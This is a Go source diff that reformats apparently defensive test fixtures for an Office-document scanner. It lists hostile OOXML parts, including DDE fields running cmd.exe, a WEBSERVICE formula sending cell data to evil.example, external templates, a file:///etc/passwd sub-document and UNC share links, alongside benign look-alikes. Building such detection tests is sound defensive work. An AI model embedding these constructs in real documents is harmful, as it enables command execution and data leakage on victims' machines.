@@ -26,7 +26,8 @@ func relationships(kind, target, mode string) string {
 	if mode != "" {
 		mode = ` TargetMode="` + mode + `"`
 	}
-	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="` + relationshipTypes + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
+	return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" ` +
+		`Type="` + relationshipTypes + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
 }
 
 // word returns the body of a text.
@@ -50,22 +51,26 @@ func fieldOf(runs ...string) string {
 
 // connection returns a list with one connection.
 func connection(attributes string) string {
-	return `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="n" type="5" ` + attributes + `/></connections>`
+	return `<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="n" ` +
+		`type="5" ` + attributes + `/></connections>`
 }
 
 // settings returns the settings of a text.
 func settings(content string) string {
-	return `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + content + `</w:settings>`
+	return `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + content +
+		`</w:settings>`
 }
 
 // cells returns a table with rows.
 func cells(rows string) string {
-	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows + `</sheetData></worksheet>`
+	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>` + rows +
+		`</sheetData></worksheet>`
 }
 
 // name returns a book with a defined name.
 func name(name string) string {
-	return `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="` + name + `" hidden="1">S!$A$1</definedName></definedNames></workbook>`
+	return `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName ` +
+		`name="` + name + `" hidden="1">S!$A$1</definedName></definedNames></workbook>`
 }
 
 // hostileOffice has parts of office documents that fetch or run.
@@ -78,7 +83,9 @@ func hostileOffice() []recipe {
 		part(officeExternal, "frame", relationships("frame", "http://evil.example/", "External")),
 		part(officeExternal, "sub-document", relationships("subDocument", "file:///etc/passwd", "External")),
 		part(officeExternal, "strict-type",
-			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/" TargetMode="External"/></Relationships>`),
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
+				`Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="http://evil.example/" `+
+				`TargetMode="External"/></Relationships>`),
 		part(officeExternal, "mode-lower-case", relationships("image", "http://evil.example/x.png", "external")),
 		part(officeExternal, "mode-spaces", relationships("image", "x.png", " External ")),
 		part(officeExternal, "mode-encoded", relationships("image", "http://evil.example/x.png", "E&#120;ternal")),
@@ -102,7 +109,9 @@ func hostileOffice() []recipe {
 		part(officeExternal, "html-part", relationships("aFChunk", "part.html", "")),
 		part(officeExternal, "external-book", relationships("externalLinkPath", "file:///x.xlsx", "External")),
 		part(officeExternal, "compatibility",
-			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice Requires="x"/></mc:AlternateContent></Relationships>`),
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" `+
+				`xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:AlternateContent><mc:Choice `+
+				`Requires="x"/></mc:AlternateContent></Relationships>`),
 
 		part(officeExternal, "field-dde", word(fieldOf(` DDE cmd "/c calc" `))),
 		part(officeExternal, "field-ddeauto", word(fieldOf(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`))),
@@ -116,15 +125,18 @@ func hostileOffice() []recipe {
 		part(officeExternal, "field-import", word(fieldOf(`IMPORT x`))),
 		part(officeExternal, "field-link", word(fieldOf(`LINK Excel.Sheet.8 "http://evil.example/x"`))),
 		part(officeExternal, "field-nested",
-			word(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 </w:instrText></w:r>`+fieldOf(` DDE cmd`)+`<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
+			word(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 </w:instrText></w:r>`+fieldOf(` DDE cmd`)+
+				`<w:r><w:fldChar w:fldCharType="end"/></w:r>`)),
 		part(officeExternal, "field-deleted",
-			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText> DDE x</w:delInstrText><w:fldChar w:fldCharType="end"/></w:r>`)),
+			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:delInstrText> DDE x</w:delInstrText><w:fldChar `+
+				`w:fldCharType="end"/></w:r>`)),
 		part(officeExternal, "field-without-end",
 			word(`<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r>`)),
 		part(officeExternal, "field-without-begin", word(`<w:r><w:instrText>DDE x</w:instrText></w:r>`)),
 		part(officeExternal, "field-quoted", word(fieldOf(`"DDE" x`))),
 		part(officeExternal, "field-in-alternative",
-			word(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="w99">`+fieldOf("DDE x")+`</mc:Choice></mc:AlternateContent>`)),
+			word(`<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice `+
+				`Requires="w99">`+fieldOf("DDE x")+`</mc:Choice></mc:AlternateContent>`)),
 
 		part(officeExternal, "formula-webservice", sheet(`WEBSERVICE("http://evil.example/"&amp;A1)`)),
 		part(officeExternal, "formula-prefix", sheet(`1+_xlfn.WEBSERVICE ("x")`)),
@@ -134,48 +146,81 @@ func hostileOffice() []recipe {
 		part(officeExternal, "formula-dde", sheet(`cmd|'/c calc'!A0`)),
 		part(officeExternal, "formula-image", sheet(`_xlfn.IMAGE("http://evil.example/x.png")`)),
 		part(officeExternal, "formula-name",
-			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">WEBSERVICE("x")</definedName></definedNames></workbook>`),
+			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">`+
+				`WEBSERVICE("x")</definedName></definedNames></workbook>`),
 		part(officeExternal, "web-query",
-			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><webPr url="http://evil.example/"/></connection></connections>`),
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><webPr `+
+				`url="http://evil.example/"/></connection></connections>`),
 		part(officeExternal, "database-query",
-			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><dbPr connection="Provider=x" command="y"/></connection></connections>`),
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><dbPr `+
+				`connection="Provider=x" command="y"/></connection></connections>`),
 		part(officeExternal, "text-query",
-			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><textPr sourceFile="\\evil.example\x"/></connection></connections>`),
+			`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"><textPr `+
+				`sourceFile="\\evil.example\x"/></connection></connections>`),
 		part(officeExternal, "dde-link",
-			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`),
+			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" `+
+				`ddeTopic="/c calc"/></externalLink>`),
 		part(officeExternal, "external-book-element",
-			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>`),
+			`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" `+
+				`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/>`+
+				`</externalLink>`),
 		part(officeExternal, "attached-template-element",
-			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`),
+			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" `+
+				`xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>`+
+				`</w:settings>`),
 		part(officeExternal, "linked-object",
 			`<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Excel.Sheet.8"/>`),
 		part(officeExternal, "mail-merge",
-			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>`),
+			`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:connectString `+
+				`w:val="x"/></w:mailMerge></w:settings>`),
 		part(officeExternal, "vml", `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>`),
 		part(officeExternal, "vml-alternative",
-			`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" o:althref="\\evil.example\x"/>`),
+			`<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" `+
+				`o:althref="\\evil.example\x"/>`),
 		part(officeExternal, "action-file",
 			`<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkfile"/>`),
 
-		part(officeExternal, "video", word(`<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example/&quot;&gt;" h="1" w="1"/>`)),
+		part(officeExternal, "video", word(
+			`<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" `+
+				`embeddedHtml="&lt;iframe src=&quot;http://evil.example/&quot;&gt;" h="1" w="1"/>`)),
 		part(officeExternal, "connection-file", connection(`odcFile="\\evil.example\x.odc"`)),
 		part(officeExternal, "connection-source", connection(`sourceFile="http://evil.example/x.mdb"`)),
-		part(officeExternal, "task-pane", `<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1"/></wetp:taskpanes>`),
-		part(officeExternal, "web-extension", `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference id="wa1" version="1.0" store="en-US" storeType="OMEX"/></we:webextension>`),
-		part(officeExternal, "web-extension-in-drawing", word(`<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" xmlns:r="urn:r" r:id="rId1"/>`)),
-		part(officeExternal, "web-extension-part", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="webextension1.xml"/></Relationships>`),
-		part(officeExternal, "task-panes-part", `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="word/webextensions/taskpanes.xml"/></Relationships>`),
-		part(officeExternal, "web-extension-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/></Types>`),
+		part(officeExternal, "task-pane", `<wetp:taskpanes `+
+			`xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane `+
+			`dockstate="right" visibility="1"/></wetp:taskpanes>`),
+		part(officeExternal, "web-extension", `<we:webextension `+
+			`xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{1}"><we:reference `+
+			`id="wa1" version="1.0" store="en-US" storeType="OMEX"/></we:webextension>`),
+		part(officeExternal, "web-extension-in-drawing",
+			word(`<we:webextensionref xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" `+
+				`xmlns:r="urn:r" r:id="rId1"/>`)),
+		part(officeExternal, "web-extension-part",
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
+				`Type="http://schemas.microsoft.com/office/2011/relationships/webextension" Target="webextension1.xml"/>`+
+				`</Relationships>`),
+		part(officeExternal, "task-panes-part",
+			`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" `+
+				`Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" `+
+				`Target="word/webextensions/taskpanes.xml"/></Relationships>`),
+		part(officeExternal, "web-extension-type",
+			`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override `+
+				`PartName="/word/webextensions/webextension1.xml" ContentType="application/vnd.ms-office.webextension+xml"/>`+
+				`</Types>`),
 		part(officeExternal, "attached-schema", settings(`<w:attachedSchema w:val="http://evil.example/x.xsd"/>`)),
 		part(officeExternal, "attached-schema-share", settings(`<w:attachedSchema w:val="\\evil.example\x.xsd"/>`)),
-		part(officeExternal, "schema-library", settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:schemaLocation="http://evil.example/x.xsd"/></sl:schemaLibrary>`)),
-		part(officeExternal, "schema-manifest", settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" sl:manifestLocation="\\evil.example\x"/></sl:schemaLibrary>`)),
+		part(officeExternal, "schema-library", settings(`<sl:schemaLibrary `+
+			`xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="urn:x" `+
+			`sl:schemaLocation="http://evil.example/x.xsd"/></sl:schemaLibrary>`)),
+		part(officeExternal, "schema-manifest",
+			settings(`<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema `+
+				`sl:uri="urn:x" sl:manifestLocation="\\evil.example\x"/></sl:schemaLibrary>`)),
 		part(officeExternal, "book-on-a-share", sheet(`'\\evil.example\s\[b.xlsx]S'!A1`)),
 		part(officeExternal, "book-on-the-web", sheet(`1+'https://evil.example/[b.xlsx]S'!A1`)),
 		part(officeExternal, "book-in-brackets", sheet(`[http://evil.example/b.xlsx]S!A1`)),
 		part(officeExternal, "book-after-quote", sheet(`'it''s'!A1+'\\evil.example\[b]S'!A1`)),
 		part(officeExternal, "book-in-a-name",
-			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">'\\evil.example\[b.xlsx]S'!$A$1</definedName></definedNames></workbook>`),
+			`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">`+
+				`'\\evil.example\[b.xlsx]S'!$A$1</definedName></definedNames></workbook>`),
 
 		part(officeBounds, "row", cells(`<row r="1048577"/>`)),
 		part(officeBounds, "row-zero", cells(`<row r="0"/>`)),
@@ -197,7 +242,9 @@ func hostileOffice() []recipe {
 		part(active, "automatic-name-activate", name("Auto_Activate")),
 		part(active, "macros", relationships("vbaProject", "vbaProject.bin", "")),
 		part(active, "control", relationships("control", "activeX/activeX1.xml", "")),
-		part(active, "content-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`),
+		part(active, "content-type", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
+			`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`+
+			`</Types>`),
 		part(active, "action-program",
 			`<a:hlinkHover xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>`),
 	}
@@ -212,16 +259,25 @@ func benignOffice() []recipe {
 		part(officeExternal, "parents", relationships("drawing", "../../xl/drawings/drawing1.xml", "Internal")),
 		part(officeExternal, "from-root", relationships("styles", "/word/styles.xml", "")),
 		part(officeExternal, "fields",
-			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
+			word(fieldOf(` PAGE `)+fieldOf(` HYPERLINK "https://example.org/" `)+fieldOf(` REF DDE `)+`<w:fldSimple w:instr=" `+
+				`DATE "/><w:r><w:t>DDEAUTO cmd</w:t></w:r>`)),
 		part(officeExternal, "formulas", sheet(`SUM(A1:A2)&amp;"WEBSERVICE(1) a|b"&amp;'it''s|x'!A1&amp;IMAGES(1)`)),
-		part(officeExternal, "books-by-number", sheet(`'[1]Sheet 1'!A1+[2]S!B2+SUM('Jan:Dec'!A1)+T[[#All],[price/unit]]+"\\server\x"`)),
-		part(officeExternal, "schema-without-place", settings(`<w:attachedSchema w:val="ActionsPane3"/><w:attachedSchema w:val="urn:schemas-example"/><sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:uri="http://example.org/schema"/></sl:schemaLibrary>`)),
+		part(officeExternal, "books-by-number", sheet(`'[1]Sheet 1'!A1+[2]S!B2+SUM('Jan:Dec'!A1)+T[[#All],`+
+			`[price/unit]]+"\\server\x"`)),
+		part(officeExternal, "schema-without-place", settings(`<w:attachedSchema w:val="ActionsPane3"/><w:attachedSchema `+
+			`w:val="urn:schemas-example"/><sl:schemaLibrary `+
+			`xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema `+
+			`sl:uri="http://example.org/schema"/></sl:schemaLibrary>`)),
 		part(officeExternal, "local-connection", connection(`refreshedVersion="6"`)),
-		part(officeBounds, "last-cell", cells(`<row r="1048576" spans="1:16384"><c r="XFD1048576"><f t="shared" ref="A1:XFD1048576" si="0">A1</f></c><c/></row>`)),
-		part(officeBounds, "last-column", `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols><rowBreaks><brk id="1048575" max="16383"/></rowBreaks><mergeCells><mergeCell ref="A1:B2"/></mergeCells></worksheet>`),
+		part(officeBounds, "last-cell", cells(`<row r="1048576" spans="1:16384"><c r="XFD1048576"><f t="shared" `+
+			`ref="A1:XFD1048576" si="0">A1</f></c><c/></row>`)),
+		part(officeBounds, "last-column", `<worksheet><dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" `+
+			`width="9"/></cols><rowBreaks><brk id="1048575" max="16383"/></rowBreaks><mergeCells><mergeCell ref="A1:B2"/>`+
+			`</mergeCells></worksheet>`),
 		part(officeBounds, "other-rows", word(`<w:row w:r="0"/><c r="" xmlns=""/>`)),
 		part(active, "names", name("Auto_Opening_Balance")),
 		part(active, "built-in-names", name("_xlnm.Print_Area")),
-		part(active, "slide-actions", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://hlinkshowjump?jump=nextslide"/>`),
+		part(active, "slide-actions", `<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" `+
+			`action="ppaction://hlinkshowjump?jump=nextslide"/>`),
 	}
 }
